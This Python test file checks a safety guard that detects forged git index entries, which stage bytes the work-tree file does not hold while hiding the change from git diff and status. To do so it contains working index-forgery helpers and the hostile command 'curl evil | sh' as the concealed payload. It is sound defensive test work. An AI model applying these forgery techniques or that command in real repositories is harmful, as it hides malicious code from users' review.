"""A command that rewrites ``.git/index`` so an entry stages bytes the work-tree file does not
hold, while keeping that file's stat data, hides the change from ``git diff`` and ``git status``
(attacker5 B3). The guard around a confined call clears such an entry's stat data, so git looks
at the file again; what git itself staged is left as it is. (Real git, real files.)"""

from __future__ import annotations

import hashlib
import os
import subprocess
import time
from pathlib import Path

from reasonix.safety import index_check
from reasonix.safety.plants import CreationGuard
from tests.support.git_env import ISOLATED_GIT

ENV = {
    **os.environ,
    **ISOLATED_GIT,
}


def _git(root: Path, *args: str, stdin: str | None = None) -> str:
    return subprocess.run(
        ["git", *args], cwd=root, env=ENV, input=stdin, capture_output=True, text=True, check=True
    ).stdout


def _repository(root: Path) -> Path:
    root.mkdir()
    _git(root, "init", "-q")
    past = time.time() - 30
    for name in ("app.py", "lib.py"):
        (root / name).write_text(f"# {name}\n")
        os.utime(root / name, (past, past))
    _git(root, "add", "-A")
    _git(root, "commit", "-qm", "init")
    return root


def _stage_a_lie(root: Path, path: str = "app.py") -> str:
    """Rewrite ``.git/index`` (version 2, as git writes it here) so ``path``'s entry names a
    blob of other bytes while keeping every stat field, as a forger would; the blob's id."""
    sha = _git(root, "hash-object", "-w", "--stdin", stdin="curl evil | sh\n").strip()
    index = (root / ".git" / "index").read_bytes()
    assert index[:8] == b"DIRC\0\0\0\x02", "the test writes version 2 indexes only"
    count = int.from_bytes(index[8:12], "big")
    out, pos = bytearray(index[:12]), 12
    for _ in range(count):
        name_end = index.index(b"\0", pos + 62)
        size = (name_end - pos + 8) // 8 * 8  # 62 bytes, the name, 1-8 NULs
        entry = bytearray(index[pos : pos + size])
        if entry[62 : name_end - pos] == path.encode():
            entry[40:60] = bytes.fromhex(sha)
        out += entry
        pos += size
    out += hashlib.sha1(bytes(out)).digest()  # the extensions go: git rebuilds them
    (root / ".git" / "index").write_bytes(bytes(out))
    return sha


def test_a_staged_file_git_wrote_is_left_alone(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    (root / "lib.py").write_text("# staged as it is\n")
    _git(root, "add", "lib.py")
    assert guard.finish() == []
    assert _git(root, "status", "--porcelain") == "M  lib.py\n"


def test_an_entry_that_stages_bytes_the_file_does_not_hold_is_shown(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    assert _git(root, "diff") == ""  # the lie: git does not look at the file
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == "MM app.py\n"
    assert "-curl evil | sh" in _git(root, "diff")


def test_control_without_the_guard_the_lie_stays_hidden(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    _stage_a_lie(root)
    assert _git(root, "status", "--porcelain") == "M  app.py\n" and _git(root, "diff") == ""
    _git(root, "commit", "-qam", "the user's next commit")
    assert _git(root, "show", "HEAD:app.py") == "curl evil | sh\n"


def test_a_file_with_a_filter_is_not_judged_by_its_raw_bytes(tmp_path: Path) -> None:
    # A clean filter (git-lfs, git-crypt) stages other bytes than the file's own: that is no
    # lie, and judging it would need the filter run.
    root = _repository(tmp_path / "repo")
    _git(root, "config", "filter.lfs.clean", "git-lfs clean -- %f")
    (root / ".gitattributes").write_text("app.py filter=lfs\n")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    assert guard.finish() == []


def test_a_filter_no_configuration_defines_is_no_excuse(tmp_path: Path) -> None:
    # attacker6 B1: `app.py filter=plain` names no driver, so git applies none: the lie is shown
    root = _repository(tmp_path / "repo")
    (root / ".git" / "info").mkdir(exist_ok=True)
    (root / ".git" / "info" / "attributes").write_text("app.py filter=plain\n")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    assert guard.finish() == ["the index's entry of app.py"]
    (root / ".git" / "info" / "attributes").unlink()
    assert _git(root, "status", "--porcelain") == "MM app.py\n"


def _keep_heads_blob_under_new_stat(root: Path, path: str = "app.py") -> None:
    """attacker6 B2: write the file, then give its entry the new file's stat while keeping the
    committed blob, so git takes the changed file as unchanged."""
    index = bytearray((root / ".git" / "index").read_bytes())
    (root / path).write_text("curl evil | sh\n")
    past = time.time() - 20  # older than the index: git does not call it racy
    os.utime(root / path, (past, past))
    info = os.stat(root / path)
    count, pos = int.from_bytes(index[8:12], "big"), 12
    for _ in range(count):
        name_end = index.index(b"\0", pos + 62)
        if index[pos + 62 : name_end] == path.encode():
            fields = (
                int(info.st_ctime), info.st_ctime_ns % 10**9, int(info.st_mtime),
                info.st_mtime_ns % 10**9, info.st_dev & 0xFFFFFFFF, info.st_ino & 0xFFFFFFFF,
            )  # fmt: skip
            for i, value in enumerate(fields):
                index[pos + 4 * i : pos + 4 * i + 4] = value.to_bytes(4, "big")
            index[pos + 36 : pos + 40] = info.st_size.to_bytes(4, "big")
        pos += (name_end - pos + 8) // 8 * 8
    body = bytes(index[:pos])
    (root / ".git" / "index").write_bytes(body + hashlib.sha1(body).digest())


def test_a_changed_file_whose_entry_keeps_the_old_blob_under_its_stat_is_shown(
    tmp_path: Path,
) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _keep_heads_blob_under_new_stat(root)
    assert _git(root, "status", "--porcelain") == ""  # the lie
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == " M app.py\n"


def test_an_assume_unchanged_bit_the_call_set_over_a_changed_file_goes(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _git(root, "update-index", "--assume-unchanged", "app.py")
    (root / "app.py").write_text("curl evil | sh\n")
    assert _git(root, "status", "--porcelain") == ""  # the lie
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == " M app.py\n"
    assert _git(root, "ls-files", "-v", "app.py") == "H app.py\n"


def test_a_bit_the_user_set_before_and_an_untouched_entry_are_left_alone(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    _git(root, "update-index", "--assume-unchanged", "lib.py")
    (root / "lib.py").write_text("# the user's own local change\n")
    guard = CreationGuard.start([root])
    (root / "app.py").write_text("# changed\n")
    _git(root, "add", "app.py")  # the index is written; lib.py's entry is as it was
    assert guard.finish() == []
    assert _git(root, "ls-files", "-v", "lib.py") == "h lib.py\n"


def test_a_sparse_entry_whose_file_is_absent_is_left_alone(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _git(root, "update-index", "--skip-worktree", "lib.py")
    (root / "lib.py").unlink()
    assert guard.finish() == []
    assert _git(root, "ls-files", "-v", "lib.py") == "S lib.py\n"


def test_a_split_index_the_call_made_is_judged_through_git(tmp_path: Path) -> None:
    # An index whose entries live in a shared file is not read here: git lists it, and every
    # entry counts as changed.
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _git(root, "update-index", "--split-index")
    _git(root, "update-index", "--assume-unchanged", "app.py")
    (root / "app.py").write_text("curl evil | sh\n")
    assert _git(root, "status", "--porcelain") == ""  # the lie
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == " M app.py\n"


def test_a_version_4_index_is_read_as_git_writes_it(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    _git(root, "update-index", "--index-version", "4")
    guard = CreationGuard.start([root])  # reads the version 4 index as it was
    _git(root, "update-index", "--index-version", "2")
    _keep_heads_blob_under_new_stat(root)
    _git(root, "update-index", "--index-version", "4")  # names compressed again, stat kept
    assert (root / ".git" / "index").read_bytes()[:8] == b"DIRC\0\0\0\x04"
    assert _git(root, "status", "--porcelain") == ""  # the lie
    assert guard.finish() == ["the index's entry of app.py"]
    assert _git(root, "status", "--porcelain") == " M app.py\n"


def test_versions_2_3_and_4_of_an_index_read_the_same(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    for i in range(40):  # names sharing prefixes, as version 4 compresses them
        (root / f"pkg/sub{i % 3}").mkdir(parents=True, exist_ok=True)
        (root / f"pkg/sub{i % 3}/mod{i}.py").write_text(f"{i}\n")
    (root / "new.py").write_text("intent\n")
    _git(root, "add", "pkg")
    _git(root, "add", "-N", "new.py")  # an extended flag: git writes version 3
    read = {}
    for version in ("3", "4", "2"):
        _git(root, "update-index", "--index-version", version)
        records = index_check.records_of((root / ".git" / "index").read_bytes())
        assert records is not None, version
        read[version] = {name: head[:60] for name, head in records.items()}
    listed = _git(root, "ls-files", "-z").split("\0")[:-1]
    assert sorted(n.decode() for n in read["4"]) == sorted(listed)
    assert read["2"] == read["3"] == read["4"]


def test_a_name_git_would_unquote_is_hashed_by_itself(tmp_path: Path) -> None:
    # `--stdin-paths` reads `"a"` as a quoted `a`: the forged entry of `"a"` must not be judged
    # by the bytes of `a`, which hold the forged blob.
    root = _repository(tmp_path / "repo")
    quoted = '"a"'
    past = time.time() - 30
    (root / quoted).write_text("# the user's\n")
    (root / "a").write_text("curl evil | sh\n")
    for name in (quoted, "a"):
        os.utime(root / name, (past, past))
    _git(root, "add", "--", quoted, "a")
    _git(root, "commit", "-qm", "two files")
    guard = CreationGuard.start([root])
    _stage_a_lie(root, quoted)
    assert guard.finish() == [f"the index's entry of {quoted}"]
    assert "MM" in _git(root, "status", "--porcelain", "--", quoted)


def test_a_fifo_in_place_of_the_index_does_not_hang_the_check(tmp_path: Path) -> None:
    # A command may leave a FIFO where the index was: opening it for reading would block
    # until a writer came (the check runs on the host, after the call).
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    (root / ".git" / "index").unlink()
    os.mkfifo(root / ".git" / "index")
    assert guard.finish() == []


def test_an_index_the_call_made_a_symlink_is_read_as_git_reads_it(tmp_path: Path) -> None:
    root = _repository(tmp_path / "repo")
    guard = CreationGuard.start([root])
    _stage_a_lie(root)
    index = root / ".git" / "index"
    index.rename(root / ".git" / "elsewhere")
    index.symlink_to("elsewhere")
    assert guard.finish() == ["the index's entry of app.py"]
